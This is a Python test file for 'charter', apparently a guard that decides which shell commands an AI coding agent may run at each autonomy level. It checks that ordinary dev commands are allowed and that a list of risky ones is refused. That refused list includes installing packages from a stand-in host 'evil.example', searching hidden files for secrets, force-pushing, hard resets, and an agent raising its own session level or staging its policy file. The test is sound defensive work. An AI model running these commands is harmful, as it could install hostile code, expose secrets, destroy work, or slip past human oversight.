"""charter governs itself: its policy is valid, its table current, its workflow allowed."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from charter.cli import main
from charter.guard.compiled import CompiledPolicy
from charter.guard.decide import classify
from charter.guard.policy import load_policy
from charter.guard.policy_model import compile_policy
from tests.guard.helpers import make_context

REPO = Path(__file__).resolve().parents[2]
OWN = REPO / "docs" / "agents" / "AUTONOMY.md"
EXAMPLE = REPO / "examples" / "policy" / "AUTONOMY.md"


@pytest.mark.parametrize("policy", [OWN, EXAMPLE], ids=["own", "example"])
def test_the_levels_table_is_current(
    policy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    repo = tmp_path / "repo"
    (repo / "docs/agents").mkdir(parents=True)
    (repo / ".git").mkdir()
    shutil.copyfile(policy, repo / "docs/agents/AUTONOMY.md")
    code = main(["export", "autonomy", "--check", "--repo", str(repo)])
    assert code == 0, capsys.readouterr().out


@pytest.fixture(scope="module")
def own() -> CompiledPolicy:
    return CompiledPolicy(compile_policy(load_policy(OWN, "docs/agents/AUTONOMY.md")))


DEV_WORKFLOW = [
    "git status",
    "git diff --stat",
    "git log --oneline -10",
    "rg -n 'def classify' tools",
    "pytest tests/guard -q",
    "python -m pytest -x",
    "ruff check tools tests",
    "ruff format tools/charter/render",
    "mypy tools/charter",
    "make test",
    "make check",
    "make board",
    "charter check",
    "charter guard --explain --command 'git status'",
    "git add tools/charter/board/render.py && git commit -m 'render: tidy'",
]


@pytest.mark.parametrize("command", DEV_WORKFLOW)
def test_the_dev_workflow_is_allowed_at_l1(own: CompiledPolicy, command: str) -> None:
    decision = classify(command, make_context(own, REPO, level="L1"))
    assert decision.allowed, decision.reason


REFUSED = [
    ("git push origin main", "L1"),
    ("make bench", "L1"),
    ("make session-start TASK=CH-X-1 LEVEL=L3", "L2"),
    ("charter session start CH-X-1 --level L3", "L2"),
    ("charter export claude-code", "L2"),
    ("ruff format tools/charter/guard/shell.py", "L1"),
    ("git add docs/agents/AUTONOMY.md", "L1"),
    ("git add pyproject.toml", "L1"),
    ("rg --hidden secret", "L1"),
    ("git reset --hard", "L2"),
    ("git push --force", "L3"),
    ("pip install --index-url https://evil.example x", "L3"),
    (".venv/bin/pytest", "L1"),
]


@pytest.mark.parametrize(("command", "level"), REFUSED)
def test_what_charter_keeps_from_its_agents(own: CompiledPolicy, command: str, level: str) -> None:
    env = {"CHARTER_ALLOW_NET": "1"}
    decision = classify(command, make_context(own, REPO, level=level, env=env))
    assert not decision.allowed
